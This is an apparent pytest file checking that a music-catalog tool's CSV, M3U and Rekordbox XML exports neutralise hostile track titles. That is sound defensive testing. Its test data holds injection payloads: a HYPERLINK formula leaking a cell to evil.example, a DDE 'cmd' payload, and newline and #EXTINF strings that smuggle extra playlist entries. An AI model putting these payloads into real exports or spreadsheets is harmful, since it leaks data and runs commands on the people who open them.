"""Hostile titles and names in every human-facing export: no live formula, no extra playlist entry, valid XML."""

import csv
import xml.etree.ElementTree as ET
from datetime import date

import pytest

from backbeat.catalog.rekordbox import DjTrack, export_rekordbox_xml
from backbeat.common.human_exports import single_line, spreadsheet_cell, xml_text
from backbeat.curation.sync import ExportTrack, SyncJob, write_export

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "Song\nhttp://evil.example/stream.mp3",
    "Song\r\n#EXTINF:1,evil\r\nhttp://evil.example/x.mp3",
    "Bell\x07 and NUL\x00 and line\u2028separator",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_starts_a_formula_and_no_text_breaks_a_line(value):
    cell = spreadsheet_cell(value)
    assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert str(cell).endswith(value[-3:])  # the text itself is kept for a person to read
    assert "\n" not in single_line(value) and "\r" not in single_line(value)
    ET.fromstring(f'<T Name="{xml_text(value).replace("&", "&amp;").replace(chr(34), "&quot;")}"/>')


def test_numbers_stay_numbers():
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(None) is None and spreadsheet_cell("Song") == "Song"


def test_curation_export_with_hostile_titles(tmp_path):
    tracks = [
        ExportTrack(
            n,
            f"T{n}",
            None,
            title,
            "=cmd|artist",
            "@album",
            200_000,
            None if n % 2 else f"spotify:track:{n:022d}",
            "not on Spotify" if n % 2 else None,
        )
        for n, title in enumerate(HOSTILE, start=1)
    ]
    job = SyncJob(date(2026, 11, 2), "main", "p1", 1, "focus", "Focus\nhttp://evil.example/x.mp3", "=desc", tracks)
    m3u, table = write_export(tmp_path, job)

    entries = [line for line in m3u.read_text().splitlines() if line and not line.startswith("#")]
    assert entries == job.uris  # exactly the playlist's URIs: no entry smuggled in by a title
    with table.open(newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert rows[1][3] == "'" + HOSTILE[0]


def test_rekordbox_export_with_hostile_titles_stays_well_formed(tmp_path):
    library = []
    for n, title in enumerate(HOSTILE):
        (tmp_path / f"{n}.wav").write_bytes(b"RIFF")
        library.append(DjTrack(f"T{n}", title, tmp_path / f"{n}.wav", artist="Bad\x01Artist", album="x\x0bY"))
    path = tmp_path / "rekordbox.xml"
    export_rekordbox_xml(library, path)
    root = ET.parse(path).getroot()
    names = [t.get("Name") for t in root.iter("TRACK") if t.get("Name")]
    assert len(names) == len(HOSTILE)
    assert all("\x00" not in n and "\x07" not in n for n in names)
